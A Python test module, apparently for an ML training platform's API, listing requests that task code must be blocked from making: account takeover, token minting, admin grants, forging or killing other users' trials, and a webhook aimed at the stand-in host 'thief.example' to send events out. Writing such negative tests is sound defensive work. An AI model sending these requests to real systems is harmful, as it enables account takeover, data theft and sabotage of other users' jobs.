"""Requests that code in a task tries, and that must not succeed."""

from __future__ import annotations

from typing import Any, NamedTuple

STARTS = "2026-01-01T00:00:00Z"
HOOK = {
    "url": "http://thief.example",
    "webhookType": "WEBHOOK_TYPE_DEFAULT",
    "mode": "WEBHOOK_MODE_WORKSPACE",
    "name": "outlives",
    "triggers": [
        {
            "triggerType": "TRIGGER_TYPE_EXPERIMENT_STATE_CHANGE",
            "condition": {"state": "COMPLETED"},
        }
    ],
}
POLICY = {"configPolicies": "invariant_config: {entrypoint: thief}"}
CLOSED_TO_CODE: list[tuple[str, str, Any]] = [
    ("POST", "/api/v1/users/1/password", "Taken-over-1"),
    ("POST", "/api/v1/users/2/password", "Taken-over-1"),
    ("PATCH", "/api/v1/users/1", {"displayName": "x"}),
    ("PATCH", "/api/v1/users/2", {"admin": True}),
    ("POST", "/api/v1/users", {"user": {"username": "m"}, "password": "Taken-over-1"}),
    ("POST", "/api/v1/tokens", {"userId": 1}),
    ("GET", "/api/v1/tokens?username=determined", None),
    ("POST", "/api/v1/groups", {"name": "g", "addUsers": [2]}),
    ("POST", "/api/v1/roles/add-assignments", {"userRoleAssignments": []}),
    ("PUT", "/api/v1/master/cluster_message", {"message": "m", "startTime": STARTS}),
    ("POST", "/api/v1/agents/a1/disable", {}),
    ("POST", "/api/v1/agents/join-tokens", {}),
    ("POST", "/api/v1/users/setting", {"settings": [{"key": "k", "value": "1"}]}),
    ("POST", "/api/v1/webhooks", HOOK),
    ("GET", "/api/v1/webhooks", None),
    ("PATCH", "/api/v1/webhooks/1", {"url": "http://thief.example"}),
    ("DELETE", "/api/v1/webhooks/1", None),
    ("POST", "/api/v1/webhooks/1/test", {}),
    ("GET", "/api/v1/master/logs", None),
    ("GET", "/api/v1/master/config", None),
    ("PATCH", "/api/v1/master/config", {"config": {"log": {"level": "trace"}}}),
    ("POST", "/api/v1/templates/trap", {"config": {"entrypoint": "thief"}}),
    ("PUT", "/api/v1/templates/trap", {"config": {"entrypoint": "thief"}}),
    ("PATCH", "/api/v1/templates/trap", {"entrypoint": "thief"}),
    ("PATCH", "/api/v1/template/rename", {"oldName": "a", "newName": "b"}),
    ("DELETE", "/api/v1/templates/trap", None),
    ("PUT", "/api/v1/config-policies/global/EXPERIMENT", POLICY),
    ("PUT", "/api/v1/config-policies/workspaces/1/EXPERIMENT", POLICY),
    ("DELETE", "/api/v1/config-policies/global/EXPERIMENT", None),
    ("PATCH", "/api/v1/workspaces/1", {"checkpointStorageConfig": {"type": "s3"}}),
    ("POST", "/api/v1/resource-pools/default/workspace-bindings", {"workspaceIds": [1]}),
    ("POST", "/api/v1/cleanup_logs", {}),
    ("GET", "/api/v1/resources/allocation/raw", None),
    ("POST", "/api/ui/v1/links", {"state": {}}),
    ("GET", "/resources/allocation/raw", None),
    ("GET", "/debug/prom/metrics", None),
]  # fmt: skip
"""Accounts and settings, for code in a task of an admin."""
Request = tuple[str, str, Any, str]
"""Method, path, body, and the variable with the token; an empty one for none."""


class Victim(NamedTuple):
    """A running trial of somebody else."""

    experiment: int
    trial: int
    task: str
    allocation: str


def against(victim: Victim, *, has_roles: bool) -> list[Request]:
    """What harms another user's trial; without roles, each user may see and control it."""
    own = [(*each, "DET_SESSION_TOKEN") for each in _reports(victim)]
    nobody = [(*each, "") for each in [*_reports(victim), *_uses(victim), *_PARTS]]
    as_session = [(*each, "DET_SESSION_TOKEN") for each in [*_uses(victim), *_PARTS]]
    as_user = [(*each, "DET_USER_TOKEN") for each in [*_uses(victim), *_reports(victim)]]
    return [*own, *nobody, *as_session, *(as_user if has_roles else [])]


_PARTS: list[tuple[str, str, Any]] = [
    ("GET", "/api/v1/master/config", None),
    ("GET", "/api/v1/users", None),
    ("GET", "/agent/wheel", None),
    ("GET", "/agent/packages", None),
    ("POST", "/agents/starts", {}),
    ("GET", "/debug/prom/metrics", None),
]


def _reports(victim: Victim) -> list[tuple[str, str, Any]]:
    allocation = f"/api/v1/allocations/{victim.allocation}"
    trial = f"/api/v1/trials/{victim.trial}"
    metrics = {"trialId": victim.trial, "stepsCompleted": 1, "metrics": {"avgMetrics": {"l": 1}}}
    line = {"taskId": victim.task, "log": "forged\n", "allocationId": victim.allocation}
    return [
        ("POST", f"{allocation}/ready", {}),
        ("POST", f"{allocation}/waiting", {}),
        ("POST", f"{allocation}/proxy_address", {"proxyAddress": "127.0.0.1"}),
        ("POST", f"{allocation}/signals/ack_preemption", {}),
        ("POST", f"{allocation}/signals/pending_preemption", {}),
        ("GET", f"{allocation}/signals/preemption?timeoutSeconds=0", None),
        ("POST", f"{allocation}/all_gather", {"requestUuid": "u", "numPeers": 1, "data": {}}),
        ("POST", f"{trial}/metrics", {"metrics": metrics, "group": "training"}),
        ("POST", f"{trial}/progress", {"progress": 1.0}),
        ("POST", f"{trial}/runner/metadata", {"state": "forged"}),
        ("POST", f"/api/v1/runs/{victim.trial}/metadata", {"metadata": {"forged": 1}}),
        ("POST", "/api/v1/task/logs", {"logs": [line]}),
        ("POST", "/task-logs", [{"task_id": victim.task, "log": "forged\n"}]),
    ]


def _uses(victim: Victim) -> list[tuple[str, str, Any]]:
    experiment = f"/api/v1/experiments/{victim.experiment}"
    return [
        ("GET", experiment, None),
        ("GET", f"{experiment}/model_def", None),
        ("GET", f"/experiments/{victim.experiment}/model_def", None),
        ("GET", f"/api/v1/trials/{victim.trial}", None),
        ("GET", f"/api/v1/tasks/{victim.task}", None),
        ("GET", f"/api/v1/tasks/{victim.task}/logs", None),
        ("GET", f"/api/v1/tasks/{victim.task}/context_directory", None),
        ("GET", f"/api/ui/v1/experiments/{victim.experiment}/story", None),
        ("GET", f"/api/ui/v1/trials/{victim.trial}/story", None),
        ("GET", f"/api/ui/v1/trials/{victim.trial}/media", None),
        ("POST", f"{experiment}/pause", {}),
        ("POST", f"{experiment}/cancel", {}),
        ("POST", f"{experiment}/kill", {}),
        ("POST", f"/api/v1/trials/{victim.trial}/kill", {}),
        ("POST", f"{experiment}/archive", {}),
        ("PATCH", experiment, {"name": "forged"}),
        ("DELETE", experiment, None),
    ]
